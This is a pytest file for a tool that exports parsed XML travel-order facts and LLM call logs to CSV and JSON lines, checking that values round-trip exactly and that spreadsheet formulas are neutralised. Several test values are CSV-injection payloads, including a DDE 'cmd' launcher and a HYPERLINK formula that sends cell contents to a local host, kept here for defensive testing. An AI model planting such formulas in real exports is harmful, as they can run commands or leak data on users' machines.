"""What leaves: every value comes back from the file as it was, and no spreadsheet runs one."""

import json
from collections.abc import Iterable, Iterator
from contextlib import closing
from io import StringIO
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from discovery import export
from discovery.cells import original
from discovery.config import Settings
from discovery.documents.parser import read_root
from discovery.export import CALL_COLUMNS, FACT_COLUMNS, FIELD_COLUMNS, Row
from discovery.facts.references import References
from discovery.llm.verdicts import VERSION
from discovery.storage import queries
from discovery.storage.database import ThreadSafeDatabaseManager, open_database
from tests.storage.rows import (
    SUCCESS,
    Call,
    add_calls,
    add_run,
    fact_of,
    ids_at,
    lease_of,
    settle,
    shown,
)
from tests.support.corpus import CORPUS, needs_corpus
from tests.support.home import finished_run, settings_in

BROKEN_REFERENCE = """<OrderViewRS><DataLists><PaxList>
<Pax><PaxID>PAX1</PaxID><PTC>ADT</PTC></Pax><Pax><PaxID>PAX2</PaxID><PTC>CHD</PTC></Pax>
</PaxList><Journeys><Journey><PaxRefID>PAX1</PaxRefID><PaxRefID>PAX9</PaxRefID></Journey>
</Journeys></DataLists></OrderViewRS>"""


def unmasked(home: Path) -> Settings:
    """Settings by which facts keep the values as they are."""
    return settings_in(home, pii_masking_enabled=False)


def to_csv(rows: Iterable[Row], columns: tuple[str, ...], *, raw: bool = False) -> bytes:
    """The bytes of the file that is written."""
    text = StringIO(newline="")
    export.write_csv(rows, columns, text, raw=raw)
    return text.getvalue().encode()


def read_back(folder: Path, content: bytes) -> pd.DataFrame:
    """A CSV file as an analyst's program reads it: all text, nothing taken for missing."""
    path = folder / "facts.csv"
    path.write_bytes(content)
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def values_of(document: Path) -> list[str]:
    """The attributes and texts of a document's leaves, in document order."""
    found: list[str] = []
    for element in read_root(document).iter(etree.Element):
        found += (str(value) for value in element.attrib.values())
        if len(element) == 0:
            found.append(element.text or "")
    return found


def exported_values(home: Path, document: Path, *, raw: bool) -> list[str]:
    with finished_run(unmasked(home), document.read_bytes()) as (db, run_id):
        frame = read_back(home, to_csv(export.field_rows(db, run_id), FIELD_COLUMNS, raw=raw))
    assert list(frame.columns) == list(FIELD_COLUMNS)
    return list(frame["value"])


@needs_corpus
def test_formulas_are_neutralised_and_nothing_else_is_changed(tmp_path: Path) -> None:
    document = CORPUS / "hostile" / "csv_injection.xml"
    cells = exported_values(tmp_path, document, raw=False)
    assert list(map(original, cells)) == values_of(document)
    assert cells == [
        "'=cmd|' /C calc'!A0",
        "'=cmd|' /C calc'!A0",
        "'+1+1",
        "'@SUM(1+1)*cmd",
        "'-2+3+cmd",
        "'\t'=1+1",
        "'\r'=1+1",
        '\'=HYPERLINK("http://127.0.0.1:18080/?x="&A1,"click")',
        "''=1+1",
        "-12.50",
        "+33 1 23 45 67 89",
        "'@example",
    ]


@needs_corpus
@pytest.mark.parametrize("name", ["csv_injection", "spreadsheet_breaking", "long_name_and_value"])
def test_raw_values_survive_exactly(tmp_path: Path, name: str) -> None:
    document = CORPUS / "hostile" / f"{name}.xml"
    assert exported_values(tmp_path, document, raw=True) == values_of(document)


@needs_corpus
def test_values_that_break_spreadsheets_survive_neutralising_too(tmp_path: Path) -> None:
    document = CORPUS / "hostile" / "spreadsheet_breaking.xml"
    values = exported_values(tmp_path, document, raw=False)
    assert values == values_of(document)
    assert "line one\nline two\r\nline three" in values
    assert {"007", "1E5", "12345678901234567890", "1-2", "TRUE", "", "N/A"} <= set(values)


@given(value=st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30))
def test_any_text_comes_back_by_pandas(
    value: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.getbasetemp()
    rows = [{"first": "x", "value": value}]
    raw = read_back(folder, to_csv(rows, ("first", "value"), raw=True))
    assert raw.to_dict("records") == rows
    safe = read_back(folder, to_csv(rows, ("first", "value")))
    assert list(safe["value"].map(original)) == [value]


def test_the_table_of_facts_has_one_row_a_fact(tmp_path: Path) -> None:
    ticks = ("/OrderViewRS/DataLists/PaxList/Pax", "/OrderViewRS/DataLists/Journeys")
    with finished_run(unmasked(tmp_path), BROKEN_REFERENCE, *ticks) as (db, run_id):
        frame = read_back(tmp_path, to_csv(export.fact_rows(db, run_id), FACT_COLUMNS))
    assert list(frame.columns) == list(FACT_COLUMNS)
    assert list(frame["section_path"]) == [ticks[0], ticks[0], ticks[1]]
    assert list(frame["position"]) == ["1", "2", "3"]
    assert list(frame["node_ordinal"]) == ["1", "2", "1"]
    assert list(frame["fields"]) == ["2", "2", "2"]
    assert list(frame["identifiers"]) == ["1", "1", "0"]
    assert list(frame["references"]) == ["0", "0", "1"]
    assert list(frame["dangling_references"]) == ["0", "0", "1"]
    assert set(frame["confidence"]) == {""}
    for count in ("claims_hold", "claims_contradicted", "claims_not_checked"):
        assert set(frame[count]) == {"0"}
    assert set(frame["summary"]) == {""}
    assert set(frame["meaning_missing"]) == set(frame["answered_by"]) == {""}
    assert set(frame["parts"]) == {"1"}
    assert set(frame["prompt_tokens"]) == {"0"}
    assert set(frame["cost_usd"]) == {""}
    assert set(frame["message_root"]) == {"OrderViewRS"}


def test_the_table_of_fields_tells_the_part_each_value_plays(tmp_path: Path) -> None:
    with finished_run(unmasked(tmp_path), BROKEN_REFERENCE, "/OrderViewRS") as (db, run_id):
        frame = read_back(tmp_path, to_csv(export.field_rows(db, run_id), FIELD_COLUMNS))
    rows = {(row["value"], row["role"]): row["reference"] for row in frame.to_dict("records")}
    pax1 = "/OrderViewRS[1]/DataLists[1]/PaxList[1]/Pax[1]/PaxID[1]"
    assert rows["PAX1", "identifier"] == ""
    assert rows["PAX1", "reference"] == pax1
    assert rows["PAX9", "dangling"]
    assert rows["ADT", ""] == ""
    assert pax1 in list(frame["xpath"])


def test_the_table_of_fields_ends_with_what_codes_mean(tmp_path: Path) -> None:
    with finished_run(unmasked(tmp_path), BROKEN_REFERENCE, "/OrderViewRS") as (db, run_id):
        frame = read_back(tmp_path, to_csv(export.field_rows(db, run_id), FIELD_COLUMNS))
        (fact,) = queries.facts(db, run_id)
    assert list(frame.columns)[-1] == "decoded"
    assert set(frame[frame["value"] == "ADT"]["decoded"]) == {"adult"}
    assert set(frame[frame["value"] == "PAX1"]["decoded"]) == {""}
    assert "adult" not in json.dumps(fact.fact_json)


@needs_corpus
def test_a_json_record_holds_the_whole_fact(tmp_path: Path) -> None:
    document = (CORPUS / "ndc" / "alaska_21_3_OrderViewRS.xml").read_bytes()
    text = StringIO()
    with finished_run(unmasked(tmp_path), document) as (db, run_id):
        export.write_jsonl(queries.facts(db, run_id), text)
        subtrees = queries.subtrees(db, run_id)
    lines = text.getvalue().splitlines()
    assert len(lines) == len(subtrees) == 31
    for line, subtree in zip(lines, subtrees, strict=True):
        record = json.loads(line)
        place = {
            name: record[name]
            for name in (
                "position",
                "section_path",
                "node_type",
                "node_ordinal",
                "xpath",
                "source_line",
            )
        }
        assert place == {name: getattr(subtree, name) for name in place}
        assert (record["run_id"], record["message_root"]) == (run_id, "OrderViewRS")
        assert (record["spec_version"], record["pii_masked"]) == ("21.3", False)
        assert record["created_at"].endswith("+00:00")
        fact = record["fact_json"]
        assert set(fact) == {"structure", "references", "profile", "meaning", "meaning_missing"}
        assert set(fact["structure"]) == {"name", "namespace", "attributes", "content"}
        assert fact["meaning"] is None


def test_line_separators_in_values_do_not_break_json_lines(tmp_path: Path) -> None:
    value = "a\u2028b\u0085c\nd"
    text = StringIO()
    with finished_run(unmasked(tmp_path), f"<r><a>{value}</a></r>", "/r/a") as (db, run_id):
        export.write_jsonl(queries.facts(db, run_id), text)
    (line,) = text.getvalue().removesuffix("\n").split("\n")
    assert json.loads(line)["fact_json"]["structure"]["content"] == [value]


@pytest.fixture
def db(tmp_path: Path) -> Iterator[ThreadSafeDatabaseManager]:
    with closing(open_database(unmasked(tmp_path))) as manager:
        yield manager


def add_fact(
    db: ThreadSafeDatabaseManager, run_id: int, meaning: Row | None, missing: str, **values: Any
) -> None:
    """Finish the first subtree of a run with a fact that says so much of its meaning."""
    (subtree_id,) = ids_at(db, run_id, [1])
    fact = fact_of(run_id, subtree_id)
    fact["fact_json"] = {
        "structure": {"name": "a", "namespace": None, "attributes": {}, "content": ["x"]},
        "references": References(
            identifiers=[], references=[], dangling=[], duplicate_identifiers=[]
        ),
        "profile": {},
        "meaning": meaning,
        "meaning_missing": missing,
    }
    db.write_with_lock(
        lambda session: settle(session, lease_of(run_id), subtree_id, {**SUCCESS, **values}, fact)
    )


def test_a_fact_without_its_meaning_says_why_and_claims_no_confidence(
    db: ThreadSafeDatabaseManager,
) -> None:
    run_id = add_run(db, subtrees=1)
    add_fact(db, run_id, None, "The model's answer was cut.", status="error")
    (row,) = export.fact_rows(db, run_id)
    assert tuple(row) == FACT_COLUMNS
    assert (row["confidence"], row["meaning_missing"]) == (None, "The model's answer was cut.")
    assert (row["summary"], row["fields"]) == (None, 1)


def test_a_fact_tells_who_answered_in_how_many_parts_and_what_it_cost(
    db: ThreadSafeDatabaseManager,
) -> None:
    run_id = add_run(db, subtrees=1)
    calls = add_calls(db, run_id, [1], Call(), Call())
    verdicts = ("holds", "holds", "contradicted", "not checked")
    claims = [{"statement": "so", "verdict": verdict} for verdict in verdicts]
    meaning = {"summary": "A guest.", "parts": 2, "claims": claims, "verdict_version": VERSION}
    cost = {"prompt_tokens": 200, "completion_tokens": 20, "cached_tokens": 80, "cost_usd": 0.5}
    add_fact(db, run_id, meaning, "", answered_by="model", parts=2, **cost)
    (row,) = export.fact_rows(db, run_id)
    assert (row["summary"], row["confidence"], row["meaning_missing"]) == ("A guest.", 0.667, "")
    counts = ("claims_hold", "claims_contradicted", "claims_not_checked")
    assert [row[count] for count in counts] == [2, 1, 1]
    assert (row["answered_by"], row["parts"]) == ("model", 2)
    assert {name: row[name] for name in cost} == cost
    (fact,) = queries.facts(db, run_id)
    record = json.loads(json.dumps(export.record(fact)))
    assert (record["answered_by"], record["parts"], record["calls"]) == ("model", 2, calls)
    assert {name: record[name] for name in cost} == cost
    assert record["fact_json"]["meaning"] == meaning


def test_what_left_this_machine_is_exported_as_it_was_sent(
    db: ThreadSafeDatabaseManager, tmp_path: Path
) -> None:
    run_id = add_run(db, subtrees=2)
    sent = '{"messages": [{"content": "[1] Name = \\"注\\"\\n"}]}'
    first = Call(sent=sent, reply="line one\nline two\r\n")
    second = Call(sent="x", reply="=cmd|' /C calc'!A0", problem="No JSON.", cost_usd=None)
    ids = add_calls(db, run_id, [1, 2], first, second)
    frame = read_back(tmp_path, to_csv(export.call_rows(db, run_id), CALL_COLUMNS))
    assert list(frame.columns) == list(CALL_COLUMNS)
    assert list(frame["call_id"]) == list(map(str, ids))
    assert list(frame["positions"]) == ["1, 2", "1, 2"]
    assert list(frame["sent"]) == [sent, "x"]
    assert list(frame["reply"]) == ["line one\nline two\r\n", "'=cmd|' /C calc'!A0"]
    assert list(frame["problem"]) == ["", "No JSON."]
    assert list(frame["cost_usd"]) == ["0.25", ""]
    assert set(frame["started_at"]) == {first.started_at.isoformat()}
    assert set(frame["prompt_tokens"]) == {"100"}


def test_calls_leave_as_json_lines_too(db: ThreadSafeDatabaseManager) -> None:
    run_id = add_run(db, subtrees=2)
    call = Call(sent="a\u2028b\n注", problem="The answer was cut.", cost_usd=None)
    (call_id,) = add_calls(db, run_id, [1, 2], call)
    text = StringIO()
    export.write_calls_jsonl(queries.calls(db, run_id), text)
    (line,) = text.getvalue().removesuffix("\n").split("\n")
    assert json.loads(line) == {
        **shown(call),
        "call_id": call_id,
        "run_id": run_id,
        "positions": [1, 2],
        "started_at": call.started_at.isoformat(),
    }
